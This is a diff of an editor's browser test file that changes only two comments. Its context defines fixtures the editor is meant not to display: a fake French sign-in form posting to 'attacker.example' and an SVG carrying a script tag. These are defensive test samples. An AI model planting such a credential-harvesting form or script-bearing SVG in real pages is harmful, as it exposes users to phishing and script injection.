@@ -145,7 +145,7 @@ describe('open editor', () => {
 const FALSE_SIGN_IN =
   '# Connexion\n\n<form action="https://attacker.example"><input><button>Entrer</button></form>';
 
-/** Files among the pictures that the editor may not show. */
+/** Files among the pictures that the editor must not show. */
 const UNSHOWN = {
   ...{ 'note.md': FALSE_SIGN_IN, 'page.html': FALSE_SIGN_IN, 'page.xhtml': FALSE_SIGN_IN },
   ...{ 'donnees.json': '{}', 'sous-titres.vtt': 'WEBVTT', 'sous-titres.srt': '1', 'mots.txt': 'a' },
@@ -153,7 +153,7 @@ const UNSHOWN = {
     '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script/><path d="M0 0h9v9z"/></svg>',
 };
 
-/** Returns the icons wider than an icon: without their font they appear as words. */
+/** Returns the text of icons that are wider than an icon, as without the icon font. */
 function wordsOfIcons(page: Page): Promise<(string | null)[]> {
   return page.locator('.material-symbols-outlined').evaluateAll((icons) =>
     icons
